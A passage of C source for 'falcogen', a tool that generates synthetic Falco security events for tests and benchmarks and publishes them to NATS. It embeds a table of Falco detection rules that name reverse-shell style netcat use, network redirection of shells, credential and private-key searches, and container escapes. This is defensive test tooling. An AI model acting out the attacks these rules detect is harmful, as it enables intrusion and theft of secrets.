/*
 * falcogen — a realistic Falco event generator and NATS publisher.
 *
 * Feeds socterm's tests, `make demo` and `make bench` with events shaped the
 * way Falco (>= 0.39 JSON layout) or falcosidekick's NATS output write them:
 * rules of Falco's default rulesets with their real priorities, tags, sources
 * and output formats; `output` is built exactly like Falco builds it (time
 * prefix, priority, rule format with every %field replaced) and
 * `output_fields` holds exactly the fields of the format plus evt.time.
 * Values come from deterministic pools (2,000 containers, pods, users, ...).
 * `--hostile` mixes in attacker-shaped events (escape sequences, invalid
 * UTF-8, huge values, malformed lines), each named "Hostile: <what>".
 *
 * Sinks: JSON lines to a file/stdout, core NATS (one persistent connection,
 * subject falco.<priority>.<rule_slug>), or JetStream with async publish and
 * acks. `--replay` republishes existing lines byte for byte.
 *
 * The `output` prefix uses local time like Falco (tests pin TZ=UTC). Hosts
 * differ in how %container.info expands (see CONTAINER_INFO_PK), so
 * --list-rules prints formats unexpanded with both expansions in its header.
 *
 * Threads: the main thread generates and publishes; a signal thread turns
 * SIGINT/SIGTERM into a stop flag; the NATS library runs its own (the
 * JetStream ack handler only touches atomics). Everything allocated for an
 * event is released before the next one.
 */
#include "core/util.h"

#include <errno.h>
#include <getopt.h>
#include <inttypes.h>
#include <jansson.h>
#include <math.h>
#include <nats/nats.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#define PROG "falcogen"
#define MAX_SEGS 96
#define POOL_CONTAINERS 2000

/* ------------------------------------------------------------------------ */
/* Options                                                                  */

struct opts {
	const char *out;           /* --out FILE|- */
	const char *nats;          /* --nats URL[,URL] */
	bool jetstream;
	const char *stream;        /* --stream NAME: create if missing */
	const char *replay;        /* --replay FILE|- */
	bool sidekick;
	double hostile_pct;
	bool hostile_only;
	uint64_t seed;
	int64_t start_ns;
	bool start_set;
	int64_t step_ns;
	bool realtime;
	uint64_t count;
	bool count_set;
	double rate;
	int64_t duration_ns;
	uint64_t burst;
	int64_t burst_every_ns;
	bool forever;
	bool stats;
	bool list_rules;
	int64_t flush_timeout_ns;
};

__attribute__((format(printf, 1, 2), noreturn))
static void fatal(const char *fmt, ...)
{
	va_list ap;
	fprintf(stderr, PROG ": ");
	va_start(ap, fmt);
	vfprintf(stderr, fmt, ap);
	va_end(ap);
	fputc('\n', stderr);
	exit(2);
}

/* SIGINT/SIGTERM stay blocked in every thread; a signal thread takes them
 * with sigwait(), sets g_stop and pokes the main thread with SIGUSR1 so a
 * blocking read (replay from stdin) or sleep returns early. */
static atomic_int g_stop;
static pthread_t g_main_thread;

static void on_wake(int sig)
{
	(void)sig;
}

static void *signal_thread(void *arg)
{
	const sigset_t *set = arg;
	for (;;) {
		int sig;
		if (sigwait(set, &sig) != 0)
			continue;
		atomic_store(&g_stop, 1);
		pthread_kill(g_main_thread, SIGUSR1);
	}
	return NULL;
}

static void signals_init(void)
{
	static sigset_t set;
	sigemptyset(&set);
	sigaddset(&set, SIGINT);
	sigaddset(&set, SIGTERM);
	pthread_sigmask(SIG_BLOCK, &set, NULL); /* inherited by every later thread */
	struct sigaction sa;
	memset(&sa, 0, sizeof(sa));
	sa.sa_handler = on_wake; /* no SA_RESTART: a blocking read returns EINTR */
	sigaction(SIGUSR1, &sa, NULL);
	signal(SIGPIPE, SIG_IGN);
	g_main_thread = pthread_self();
	pthread_t t;
	if (pthread_create(&t, NULL, signal_thread, &set) != 0)
		fatal("cannot start the signal thread");
	pthread_detach(t);
}


/* ------------------------------------------------------------------------ */
/* Deterministic PRNG: xoshiro256** seeded through splitmix64.               */

struct rng {
	uint64_t s[4];
};

static uint64_t splitmix64(uint64_t *x)
{
	uint64_t z = (*x += 0x9e3779b97f4a7c15ULL);
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
	return z ^ (z >> 31);
}

static void rng_seed(struct rng *r, uint64_t seed)
{
	for (int i = 0; i < 4; i++)
		r->s[i] = splitmix64(&seed);
}

static uint64_t rotl(uint64_t x, int k)
{
	return (x << k) | (x >> (64 - k));
}

static uint64_t rng_next(struct rng *r)
{
	uint64_t *s = r->s;
	uint64_t res = rotl(s[1] * 5, 7) * 9;
	uint64_t t = s[1] << 17;
	s[2] ^= s[0];
	s[3] ^= s[1];
	s[1] ^= s[2];
	s[0] ^= s[3];
	s[2] ^= t;
	s[3] = rotl(s[3], 45);
	return res;
}

/* Uniform in [0, n); n > 0. The modulo bias is irrelevant here. */
static uint64_t rng_below(struct rng *r, uint64_t n)
{
	return rng_next(r) % n;
}

/* True with probability pct/100. */
static bool rng_pct(struct rng *r, unsigned pct)
{
	return rng_below(r, 100) < pct;
}

static int64_t rng_range(struct rng *r, int64_t lo, int64_t hi)
{
	return lo + (int64_t)rng_below(r, (uint64_t)(hi - lo + 1));
}

#define PICK(r, arr) ((arr)[rng_below((r), ARRAY_LEN(arr))])

/* ------------------------------------------------------------------------ */
/* Per-event string arena: everything formatted for one event lives here and
 * is freed in one go when the event has been emitted.                       */

struct arena {
	char **p;
	size_t n, cap;
};

static char *arena_keep(struct arena *a, char *s)
{
	a->p = xgrow(a->p, &a->cap, a->n + 1, sizeof(*a->p));
	a->p[a->n++] = s;
	return s;
}

__attribute__((format(printf, 2, 3)))
static const char *arena_printf(struct arena *a, const char *fmt, ...)
{
	struct sbuf b = SBUF_INIT;
	va_list ap;
	va_start(ap, fmt);
	sbuf_vprintf(&b, fmt, ap);
	va_end(ap);
	return arena_keep(a, b.s ? sbuf_steal(&b) : xstrdup(""));
}

static void arena_reset(struct arena *a)
{
	for (size_t i = 0; i < a->n; i++)
		free(a->p[i]);
	a->n = 0;
}

/* ------------------------------------------------------------------------ */
/* Priorities                                                               */

enum prio { P_EMERGENCY, P_ALERT, P_CRITICAL, P_ERROR, P_WARNING, P_NOTICE, P_INFO, P_DEBUG, P_COUNT };

static const char *const prio_name[P_COUNT] = {
	"Emergency", "Alert", "Critical", "Error", "Warning", "Notice", "Informational", "Debug",
};

/* NATS subject token: lower-case, each run of [^a-z0-9] -> '_', trimmed;
 * empty -> "unknown". Used for the priority and the rule alike, so an odd
 * priority can never produce an invalid subject. */
static void slug_append(struct sbuf *b, const char *s, size_t n)
{
	size_t start = b->len;
	bool pend = false;
	for (size_t i = 0; i < n; i++) {
		unsigned char c = (unsigned char)s[i];
		if (c >= 'A' && c <= 'Z')
			c = (unsigned char)(c - 'A' + 'a');
		if ((c >= 'a' && c <= 'z') || (c >= '0' && c <= '9')) {
			if (pend && b->len > start)
				sbuf_addc(b, '_');
			pend = false;
			sbuf_addc(b, (char)c);
		} else {
			pend = true;
		}
	}
	if (b->len == start)
		sbuf_adds(b, "unknown");
}

static void subject_build(struct sbuf *b, const char *prio, size_t plen, const char *rule, size_t rlen)
{
	sbuf_reset(b);
	sbuf_adds(b, "falco.");
	slug_append(b, prio, plen);
	sbuf_addc(b, '.');
	slug_append(b, rule, rlen);
}

/* ------------------------------------------------------------------------ */
/* Output fields: the ones the rule formats below use.                      */

enum field {
	F_EVT_TIME, F_EVT_TYPE, F_EVT_ARG_FLAGS, F_EVT_ARGS, F_EVT_ARG_TARGET, F_EVT_ARG_LINKPATH,
	F_EVT_RES, F_EVT_ARG_UID,
	F_USER_NAME, F_USER_UID, F_USER_LOGINUID, F_USER_LOGINNAME, F_GROUP_GID, F_GROUP_NAME,
	F_PROC_NAME, F_PROC_EXEPATH, F_PROC_PNAME, F_PROC_CMDLINE, F_PROC_TTY, F_PROC_PCMDLINE,
	F_PROC_PEXE, F_PROC_PEXEPATH, F_PROC_ANAME, F_PROC_AEXEPATH, F_PROC_CWD, F_PROC_ARGS,
	F_PROC_EXE, F_PROC_SNAME, F_INO_CTIME, F_INO_MTIME, F_INO_CTIME_DUR,
	F_CONTAINER_ID, F_CONTAINER_NAME, F_IMAGE_REPO, F_IMAGE_TAG, F_CONTAINER_START_TS,
	F_K8S_NS, F_K8S_POD,
	F_FD_NAME, F_FD_LPORT, F_FD_RPORT, F_FD_TYPE, F_FD_SIP, F_FD_RIP, F_PROC_PID,
	F_CAP_EFFECTIVE,
	F_KA_USER, F_KA_TARGET_NAME, F_KA_TARGET_RESOURCE, F_KA_TARGET_NS, F_KA_TARGET_SUB,
	F_KA_VERB, F_KA_URI, F_KA_RESP_CODE, F_KA_DECISION, F_KA_REASON, F_KA_RESP_NAME,
	F_KA_POD_IMAGES, F_KA_URI_PARAM, F_JEVT_VALUE, F_JEVT_OBJ, F_KA_ROLE_RULES,
	F_CT_USER, F_CT_SRCIP, F_CT_REGION, F_CT_REQ_USERNAME, F_CT_REQ_NAME, F_CT_REQ_FUNCTION,
	F_COUNT
};

static const char *const field_name[F_COUNT] = {
	[F_EVT_TIME] = "evt.time", [F_EVT_TYPE] = "evt.type", [F_EVT_ARG_FLAGS] = "evt.arg.flags",
	[F_EVT_ARGS] = "evt.args", [F_EVT_ARG_TARGET] = "evt.arg.target",
	[F_EVT_ARG_LINKPATH] = "evt.arg.linkpath", [F_EVT_RES] = "evt.res", [F_EVT_ARG_UID] = "evt.arg.uid",
	[F_USER_NAME] = "user.name", [F_USER_UID] = "user.uid", [F_USER_LOGINUID] = "user.loginuid",
	[F_USER_LOGINNAME] = "user.loginname", [F_GROUP_GID] = "group.gid", [F_GROUP_NAME] = "group.name",
	[F_PROC_NAME] = "proc.name", [F_PROC_EXEPATH] = "proc.exepath", [F_PROC_PNAME] = "proc.pname",
	[F_PROC_CMDLINE] = "proc.cmdline", [F_PROC_TTY] = "proc.tty", [F_PROC_PCMDLINE] = "proc.pcmdline",
	[F_PROC_PEXE] = "proc.pexe", [F_PROC_PEXEPATH] = "proc.pexepath", [F_PROC_ANAME] = "proc.aname",
	[F_PROC_AEXEPATH] = "proc.aexepath", [F_PROC_CWD] = "proc.cwd", [F_PROC_ARGS] = "proc.args",
	[F_PROC_EXE] = "proc.exe", [F_PROC_SNAME] = "proc.sname", [F_INO_CTIME] = "proc.exe_ino.ctime",
	[F_INO_MTIME] = "proc.exe_ino.mtime",
	[F_INO_CTIME_DUR] = "proc.exe_ino.ctime_duration_proc_start",
	[F_CONTAINER_ID] = "container.id", [F_CONTAINER_NAME] = "container.name",
	[F_IMAGE_REPO] = "container.image.repository", [F_IMAGE_TAG] = "container.image.tag",
	[F_CONTAINER_START_TS] = "container.start_ts", [F_K8S_NS] = "k8s.ns.name", [F_K8S_POD] = "k8s.pod.name",
	[F_FD_NAME] = "fd.name", [F_FD_LPORT] = "fd.lport", [F_FD_RPORT] = "fd.rport", [F_FD_TYPE] = "fd.type",
	[F_FD_SIP] = "fd.sip", [F_FD_RIP] = "fd.rip", [F_PROC_PID] = "proc.pid", [F_CAP_EFFECTIVE] = "thread.cap_effective",
	[F_KA_USER] = "ka.user.name", [F_KA_TARGET_NAME] = "ka.target.name",
	[F_KA_TARGET_RESOURCE] = "ka.target.resource", [F_KA_TARGET_NS] = "ka.target.namespace",
	[F_KA_TARGET_SUB] = "ka.target.subresource", [F_KA_VERB] = "ka.verb", [F_KA_URI] = "ka.uri",
	[F_KA_RESP_CODE] = "ka.response.code", [F_KA_DECISION] = "ka.auth.decision",
	[F_KA_REASON] = "ka.auth.reason", [F_KA_RESP_NAME] = "ka.resp.name",
	[F_KA_POD_IMAGES] = "ka.req.pod.containers.image", [F_KA_URI_PARAM] = "ka.uri.param",
	[F_JEVT_VALUE] = "jevt.value", [F_JEVT_OBJ] = "jevt.obj", [F_KA_ROLE_RULES] = "ka.req.role.rules",
	[F_CT_USER] = "ct.user", [F_CT_SRCIP] = "ct.srcip", [F_CT_REGION] = "ct.region",
	[F_CT_REQ_USERNAME] = "ct.request.username", [F_CT_REQ_NAME] = "ct.request.name",
	[F_CT_REQ_FUNCTION] = "ct.request.functionname",
};

/* A field value as libsinsp would extract it. Strings carry their length
 * because hostile values may contain NUL. */
enum vtype { V_NULL, V_STR, V_INT, V_LIST };

struct val {
	enum vtype t;
	const char *s;
	size_t n;
	int64_t i;
	const char *const *list;
	size_t nlist;
};

static struct val v_null(void) { return (struct val){ .t = V_NULL }; }
static struct val v_int(int64_t i) { return (struct val){ .t = V_INT, .i = i }; }

static struct val v_str(const char *s)
{
	if (!s)
		return v_null();
	return (struct val){ .t = V_STR, .s = s, .n = strlen(s) };
}

/* ------------------------------------------------------------------------ */
/* Rules                                                                    */

enum source { S_SYSCALL, S_K8S_AUDIT, S_CLOUDTRAIL };
static const char *const source_name[] = { "syscall", "k8s_audit", "aws_cloudtrail" };

/* What kind of activity a rule reports; selects the scenario generator. */
enum kind {
	K_TERMINAL_SHELL, K_READ_SENSITIVE, K_RUN_SHELL_UNTRUSTED, K_SYSTEM_USER, K_K8S_API,
	K_SEARCH_KEYS, K_CLEAR_LOG, K_SYMLINK, K_PACKET_SOCKET, K_REDIRECT, K_KMOD, K_RELEASE_AGENT,
	K_PTRACE, K_FIND_AWS, K_DEV_SHM, K_DROP_EXEC, K_MEMFD, K_SSH_NONSTD, K_NETCAT, K_READ_SSH,
	K_PKG_MGMT, K_DEV_FILES, K_MINER, K_SETUID, K_NET_TOOL, K_CRON, K_SHELL_CFG, K_PRIV_CONTAINER, K_USER_MGMT,
	K_KA_EXEC, K_KA_DISALLOWED, K_KA_POD_PRIV, K_KA_POD_MOUNT, K_KA_POD_HOSTNET, K_KA_ANON, K_KA_SA_KUBE,
	K_KA_ROLE_WILDCARD, K_KA_SA_CREATED, K_KA_DEPLOY_CREATED, K_KA_SECRET_GET, K_KA_ALL, K_KA_EPHEMERAL,
	K_CT_LOGIN_NO_MFA, K_CT_CREATE_USER, K_CT_TRAIL_OFF, K_CT_LAMBDA,
};

/* What Falco substitutes for %container.info: with `-pk` (older Helm
 * charts) container and k8s metadata, otherwise (Falco >= 0.38 default)
 * only the container id and name. The fleet below runs both: the nodes of
 * the gke-prod-default-pool still run with -pk. */
#define PK_NODES 12
#define CONTAINER_INFO_PK "container_id=%container.id container_image=%container.image.repository " \
	"container_image_tag=%container.image.tag container_name=%container.name " \
	"k8s_ns=%k8s.ns.name k8s_pod_name=%k8s.pod.name"
#define CONTAINER_INFO_PLAIN "container_id=%container.id container_name=%container.name"
#define PROC_TAIL "evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid " \
	"process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline " \
	"terminal=%proc.tty exe_flags=%evt.arg.flags %container.info"
/* fd_proto=fd.l4proto really lacks its '%' in the upstream rules. */
#define NET_HEAD "connection=%fd.name lport=%fd.lport rport=%fd.rport fd_type=%fd.type fd_proto=fd.l4proto "

struct seg {
	int field;             /* -1: literal */
	const char *lit;
	size_t litlen;
	char *arg;             /* "2" for proc.aname[2] */
	char *key;             /* output_fields key, "proc.aname[2]" */
};

/* A compiled output format. */
struct fmt {
	char *text;
	struct seg segs[MAX_SEGS];
	int nsegs;
};

enum { FMT_PK, FMT_PLAIN };

struct rule {
	const char *name;
	enum prio prio;
	enum source src;
	const char *tags;      /* as written in the rules file */
	const char *format;    /* output, YAML-folded to one line */
	enum kind kind;
	unsigned weight;
	bool host_only;        /* the rule excludes containers */
	/* compiled */
	struct fmt fmt[2];     /* FMT_PK, FMT_PLAIN */
	const char *tagv[12];
	int ntags;
};

/* Rules of falcosecurity/rules (falco_rules.yaml stable, incubating) and the
 * k8saudit / cloudtrail plugin rulesets. Entries marked "override" carry a
 * priority changed with `override: priority: replace`, as deployments do for
 * the rules they care most about. Weights give a plausible noisy mix. */
#define RULE(n, p, s, t, f, k, w, h) \
	{ .name = (n), .prio = (p), .src = (s), .tags = (t), .format = (f), .kind = (k), .weight = (w), .host_only = (h) }

static struct rule rules[] = {
	RULE("Terminal shell in container", P_NOTICE, S_SYSCALL,
	  "maturity_stable, container, shell, mitre_execution, T1059",
	  "A shell was spawned in a container with an attached terminal (" PROC_TAIL ")", K_TERMINAL_SHELL, 125, false),
	/* override: Critical on the production clusters */
	RULE("Terminal shell in container", P_CRITICAL, S_SYSCALL,
	  "maturity_stable, container, shell, mitre_execution, T1059",
	  "A shell was spawned in a container with an attached terminal (" PROC_TAIL ")", K_TERMINAL_SHELL, 14, false),
	RULE("Read sensitive file untrusted", P_WARNING, S_SYSCALL,
	  "maturity_stable, host, container, filesystem, mitre_credential_access, T1555",
	  "Sensitive file opened for reading by non-trusted program (file=%fd.name gparent=%proc.aname[2] "
	  "ggparent=%proc.aname[3] gggparent=%proc.aname[4] " PROC_TAIL ")", K_READ_SENSITIVE, 45, false),
	RULE("Run shell untrusted", P_NOTICE, S_SYSCALL,
	  "maturity_stable, host, container, process, shell, mitre_execution, T1059.004",
	  "Shell spawned by untrusted binary (parent_exe=%proc.pexe parent_exepath=%proc.pexepath "
	  "pcmdline=%proc.pcmdline gparent=%proc.aname[2] ggparent=%proc.aname[3] aname[4]=%proc.aname[4] "
	  "aname[5]=%proc.aname[5] aname[6]=%proc.aname[6] aname[7]=%proc.aname[7] " PROC_TAIL ")",
	  K_RUN_SHELL_UNTRUSTED, 15, false),
	RULE("System user interactive", P_INFO, S_SYSCALL,
	  "maturity_stable, host, container, users, mitre_execution, T1059, NIST_800-53_AC-2",
	  "System user ran an interactive command (" PROC_TAIL ")", K_SYSTEM_USER, 25, false),
	RULE("Contact K8S API Server From Container", P_NOTICE, S_SYSCALL,
	  "maturity_stable, container, network, k8s, mitre_discovery, T1565",
	  "Unexpected connection to K8s API Server from container (" NET_HEAD PROC_TAIL ")", K_K8S_API, 45, false),
	RULE("Search Private Keys or Passwords", P_WARNING, S_SYSCALL,
	  "maturity_stable, host, container, process, filesystem, mitre_credential_access, T1552.001",
	  "Grep private keys or passwords activities found (" PROC_TAIL ")", K_SEARCH_KEYS, 12, false),
	RULE("Clear Log Activities", P_WARNING, S_SYSCALL,
	  "maturity_stable, host, container, filesystem, mitre_defense_evasion, T1070, NIST_800-53_AU-10",
	  "Log files were tampered (file=%fd.name " PROC_TAIL ")", K_CLEAR_LOG, 8, false),
	RULE("Create Symlink Over Sensitive Files", P_WARNING, S_SYSCALL,
	  "maturity_stable, host, container, filesystem, mitre_credential_access, T1555",
	  "Symlinks created over sensitive files (target=%evt.arg.target linkpath=%evt.arg.linkpath " PROC_TAIL ")",
	  K_SYMLINK, 5, false),
	RULE("Packet socket created in container", P_NOTICE, S_SYSCALL,
	  "maturity_stable, container, network, mitre_credential_access, T1557.002",
	  "Packet socket was created in a container (socket_info=%evt.args " NET_HEAD PROC_TAIL ")",
	  K_PACKET_SOCKET, 6, false),
	RULE("Redirect STDOUT/STDIN to Network Connection in Container", P_NOTICE, S_SYSCALL,
	  "maturity_stable, container, network, process, mitre_execution, T1059",
	  "Redirect stdout/stdin to network connection (gparent=%proc.aname[2] ggparent=%proc.aname[3] "
	  "gggparent=%proc.aname[4] fd.sip=%fd.sip " NET_HEAD PROC_TAIL ")", K_REDIRECT, 10, false),
	/* override: Alert (stock priority Warning) */
	RULE("Linux Kernel Module Injection Detected", P_ALERT, S_SYSCALL,
	  "maturity_stable, host, container, process, mitre_persistence, TA0003",
	  "Linux Kernel Module injection from container (parent_exepath=%proc.pexepath gparent=%proc.aname[2] "
	  "gexepath=%proc.aexepath[2] module=%proc.args res=%evt.res " PROC_TAIL ")", K_KMOD, 4, false),
	/* override: Emergency (stock priority Critical) */
	RULE("Detect release_agent File Container Escapes", P_EMERGENCY, S_SYSCALL,
	  "maturity_stable, container, process, mitre_privilege_escalation, T1611",
	  "Detect an attempt to exploit a container escape using release_agent file (file=%fd.name "
	  "cap_effective=%thread.cap_effective " PROC_TAIL ")", K_RELEASE_AGENT, 4, false),
	RULE("PTRACE attached to process", P_WARNING, S_SYSCALL,
	  "maturity_stable, host, container, process, mitre_privilege_escalation, T1055.008",
	  "Detected ptrace PTRACE_ATTACH attempt (proc_pcmdline=%proc.pcmdline " PROC_TAIL ")", K_PTRACE, 6, false),
	RULE("Find AWS Credentials", P_WARNING, S_SYSCALL,
	  "maturity_stable, host, container, process, aws, mitre_credential_access, T1552",
	  "Detected AWS credentials search activity (proc_pcmdline=%proc.pcmdline proc_cwd=%proc.cwd "
	  "group_gid=%group.gid group_name=%group.name user_loginname=%user.loginname " PROC_TAIL ")",
	  K_FIND_AWS, 5, false),
	RULE("Execution from /dev/shm", P_WARNING, S_SYSCALL,
	  "maturity_stable, host, container, mitre_execution, T1059.004",
	  "File execution detected from /dev/shm (evt_res=%evt.res file=%fd.name proc_cwd=%proc.cwd "
	  "proc_pcmdline=%proc.pcmdline user_loginname=%user.loginname group_gid=%group.gid "
	  "group_name=%group.name " PROC_TAIL ")", K_DEV_SHM, 4, false),
	RULE("Drop and execute new binary in container", P_CRITICAL, S_SYSCALL,
	  "maturity_stable, container, process, mitre_persistence, TA0003, PCI_DSS_11.5.1",
	  "Executing binary not part of base image (proc_exe=%proc.exe proc_sname=%proc.sname "
	  "gparent=%proc.aname[2] proc_exe_ino_ctime=%proc.exe_ino.ctime proc_exe_ino_mtime=%proc.exe_ino.mtime "
	  "proc_exe_ino_ctime_duration_proc_start=%proc.exe_ino.ctime_duration_proc_start proc_cwd=%proc.cwd "
	  "container_start_ts=%container.start_ts " PROC_TAIL ")", K_DROP_EXEC, 8, false),
	/* disabled upstream by default; turned on where cryptojacking was seen */
	RULE("Detect outbound connections to common miner pool ports", P_CRITICAL, S_SYSCALL,
	  "host, container, network, mitre_execution, T1496",
	  "Outbound connection to IP/Port flagged by https://cryptoioc.ch (command=%proc.cmdline pid=%proc.pid "
	  "port=%fd.rport ip=%fd.rip container=%container.info image=%container.image.repository)", K_MINER, 4, false),
	/* override: Alert (stock priority Critical) */
	RULE("Fileless execution via memfd_create", P_ALERT, S_SYSCALL,
	  "maturity_stable, host, container, process, mitre_defense_evasion, T1620",
	  "Fileless execution via memfd_create (container_start_ts=%container.start_ts proc_cwd=%proc.cwd "
	  "evt_res=%evt.res proc_sname=%proc.sname gparent=%proc.aname[2] " PROC_TAIL ")", K_MEMFD, 4, false),
	RULE("Disallowed SSH Connection Non Standard Port", P_NOTICE, S_SYSCALL,
	  "maturity_stable, host, container, network, process, mitre_execution, T1059",
	  "Disallowed SSH Connection (" NET_HEAD PROC_TAIL ")", K_SSH_NONSTD, 4, false),
	RULE("Netcat Remote Code Execution in Container", P_WARNING, S_SYSCALL,
	  "maturity_stable, container, network, process, mitre_execution, T1059",
	  "Netcat runs inside container that allows remote code execution (" PROC_TAIL ")", K_NETCAT, 5, false),
	RULE("Read ssh information", P_ERROR, S_SYSCALL,
	  "maturity_incubating, host, container, filesystem, mitre_collection, T1005",
	  "ssh-related file/directory read by non-ssh program (file=%fd.name pcmdline=%proc.pcmdline " PROC_TAIL ")",
	  K_READ_SSH, 8, false),
	RULE("Launch Package Management Process in Container", P_ERROR, S_SYSCALL,
	  "maturity_incubating, container, process, software_mgmt, mitre_persistence, T1505",
	  "Package management process launched in container (" PROC_TAIL ")", K_PKG_MGMT, 16, false),
	RULE("Create files below dev", P_ERROR, S_SYSCALL,
	  "maturity_incubating, host, filesystem, mitre_persistence, T1543",
	  "File created below /dev by untrusted program (file=%fd.name " PROC_TAIL ")", K_DEV_FILES, 3, true),
	RULE("Non sudo setuid", P_NOTICE, S_SYSCALL,
	  "maturity_incubating, host, container, users, mitre_privilege_escalation, T1548.001",
	  "Unexpected setuid call by non-sudo, non-root program (arg_uid=%evt.arg.uid " PROC_TAIL ")", K_SETUID, 8, false),
	RULE("Launch Suspicious Network Tool in Container", P_NOTICE, S_SYSCALL,
	  "maturity_incubating, container, network, process, mitre_execution, T1059",
	  "Network tool launched in container (" PROC_TAIL ")", K_NET_TOOL, 12, false),
	RULE("Schedule Cron Jobs", P_NOTICE, S_SYSCALL,
	  "maturity_incubating, host, container, filesystem, mitre_execution, T1053.003",
	  "Cron jobs were scheduled to run (file=%fd.name " PROC_TAIL ")", K_CRON, 5, false),
	RULE("Modify Shell Configuration File", P_WARNING, S_SYSCALL,
	  "maturity_incubating, host, container, filesystem, mitre_persistence, T1546.004",
	  "A shell configuration file has been modified (file=%fd.name pcmdline=%proc.pcmdline " PROC_TAIL ")",
	  K_SHELL_CFG, 5, false),
	RULE("Launch Privileged Container", P_INFO, S_SYSCALL,
	  "maturity_incubating, container, cis, mitre_execution, T1610, PCI_DSS_10.2.5",
	  "Privileged container started (" PROC_TAIL ")", K_PRIV_CONTAINER, 15, false),
	RULE("User mgmt binaries", P_NOTICE, S_SYSCALL,
	  "maturity_incubating, host, users, software_mgmt, mitre_persistence, T1098",
	  "User management binary command run outside of container (gparent=%proc.aname[2] "
	  "ggparent=%proc.aname[3] gggparent=%proc.aname[4] " PROC_TAIL ")", K_USER_MGMT, 3, true),

	/* k8saudit plugin rules */
	RULE("Attach/Exec Pod", P_NOTICE, S_K8S_AUDIT, "k8s",
	  "Attach/Exec to pod (user=%ka.user.name pod=%ka.target.name resource=%ka.target.resource "
	  "ns=%ka.target.namespace action=%ka.target.subresource command=%ka.uri.param[command])",
	  K_KA_EXEC, 150, false),
	RULE("Disallowed K8s User", P_WARNING, S_K8S_AUDIT, "k8s",
	  "K8s Operation performed by user not in allowed list of users (user=%ka.user.name "
	  "target=%ka.target.name/%ka.target.resource verb=%ka.verb uri=%ka.uri resp=%ka.response.code)",
	  K_KA_DISALLOWED, 80, false),
	RULE("Create Privileged Pod", P_WARNING, S_K8S_AUDIT, "k8s",
	  "Pod started with privileged container (user=%ka.user.name pod=%ka.resp.name resource=%ka.target.resource "
	  "ns=%ka.target.namespace images=%ka.req.pod.containers.image)", K_KA_POD_PRIV, 10, false),
	RULE("Create Sensitive Mount Pod", P_WARNING, S_K8S_AUDIT, "k8s",
	  "Pod started with sensitive mount (user=%ka.user.name pod=%ka.resp.name ns=%ka.target.namespace "
	  "resource=%ka.target.resource images=%ka.req.pod.containers.image "
	  "volumes=%jevt.value[/requestObject/spec/volumes])", K_KA_POD_MOUNT, 6, false),
	RULE("Create HostNetwork Pod", P_WARNING, S_K8S_AUDIT, "k8s",
	  "Pod started using host network (user=%ka.user.name pod=%ka.resp.name resource=%ka.target.resource "
	  "ns=%ka.target.namespace images=%ka.req.pod.containers.image)", K_KA_POD_HOSTNET, 6, false),
	/* the doubled ')' is upstream's */
	RULE("Anonymous Request Allowed", P_WARNING, S_K8S_AUDIT, "k8s",
	  "Request by anonymous user allowed (user=%ka.user.name verb=%ka.verb uri=%ka.uri reason=%ka.auth.reason))",
	  K_KA_ANON, 4, false),
	RULE("Service Account Created in Kube Namespace", P_WARNING, S_K8S_AUDIT, "k8s",
	  "Service account created in kube namespace (user=%ka.user.name serviceaccount=%ka.target.name "
	  "resource=%ka.target.resource ns=%ka.target.namespace)", K_KA_SA_KUBE, 4, false),
	RULE("ClusterRole With Wildcard Created", P_WARNING, S_K8S_AUDIT, "k8s",
	  "Created Role/ClusterRole with wildcard (user=%ka.user.name role=%ka.target.name "
	  "resource=%ka.target.resource rules=%ka.req.role.rules)", K_KA_ROLE_WILDCARD, 3, false),
	RULE("K8s Serviceaccount Created", P_INFO, S_K8S_AUDIT, "k8s",
	  "K8s Serviceaccount Created (user=%ka.user.name serviceaccount=%ka.target.name ns=%ka.target.namespace "
	  "resource=%ka.target.resource resp=%ka.response.code decision=%ka.auth.decision reason=%ka.auth.reason)",
	  K_KA_SA_CREATED, 30, false),
	RULE("K8s Deployment Created", P_INFO, S_K8S_AUDIT, "k8s",
	  "K8s Deployment Created (user=%ka.user.name deployment=%ka.target.name ns=%ka.target.namespace "
	  "resource=%ka.target.resource resp=%ka.response.code decision=%ka.auth.decision reason=%ka.auth.reason)",
	  K_KA_DEPLOY_CREATED, 40, false),
	RULE("K8s Secret Get Successfully", P_ERROR, S_K8S_AUDIT, "k8s",
	  "K8s Secret Get Successfully (user=%ka.user.name secret=%ka.target.name ns=%ka.target.namespace "
	  "resource=%ka.target.resource resp=%ka.response.code decision=%ka.auth.decision reason=%ka.auth.reason)",
	  K_KA_SECRET_GET, 14, false),
	/* disabled upstream by default; enabled on clusters that want the full trail */
	RULE("All K8s Audit Events", P_DEBUG, S_K8S_AUDIT, "k8s",
	  "K8s Audit Event received (user=%ka.user.name verb=%ka.verb uri=%ka.uri obj=%jevt.obj)",
	  K_KA_ALL, 8, false),
	RULE("EphemeralContainers Created", P_NOTICE, S_K8S_AUDIT, "k8s",
	  "Ephemeral container is created in pod (user=%ka.user.name pod=%ka.target.name "
	  "resource=%ka.target.resource ns=%ka.target.namespace "
	  "ephemeral_container_name=%jevt.value[/requestObject/ephemeralContainers/0/name] "
	  "ephemeral_container_image=%jevt.value[/requestObject/ephemeralContainers/0/image])",
	  K_KA_EPHEMERAL, 3, false),

	/* cloudtrail plugin rules */
	RULE("Console Login Without MFA", P_CRITICAL, S_CLOUDTRAIL, "cloud, aws, aws_console, aws_iam",
	  "Detected a console login without MFA (requesting user=%ct.user, requesting IP=%ct.srcip, "
	  "AWS region=%ct.region)", K_CT_LOGIN_NO_MFA, 3, false),
	RULE("Create AWS user", P_INFO, S_CLOUDTRAIL, "cloud, aws, aws_iam",
	  "A new AWS user has been created (requesting user=%ct.user, requesting IP=%ct.srcip, "
	  "AWS region=%ct.region, new user created=%ct.request.username)", K_CT_CREATE_USER, 2, false),
	RULE("CloudTrail Logging Disabled", P_WARNING, S_CLOUDTRAIL, "cloud, aws, aws_cloudtrail",
	  "The CloudTrail logging has been disabled. (requesting user=%ct.user, requesting IP=%ct.srcip, "
	  "AWS region=%ct.region, resource name=%ct.request.name)", K_CT_TRAIL_OFF, 1, false),
	RULE("Create Lambda Function", P_WARNING, S_CLOUDTRAIL, "cloud, aws, aws_lambda",
	  "Lambda function has been created. (requesting user=%ct.user, requesting IP=%ct.srcip, "
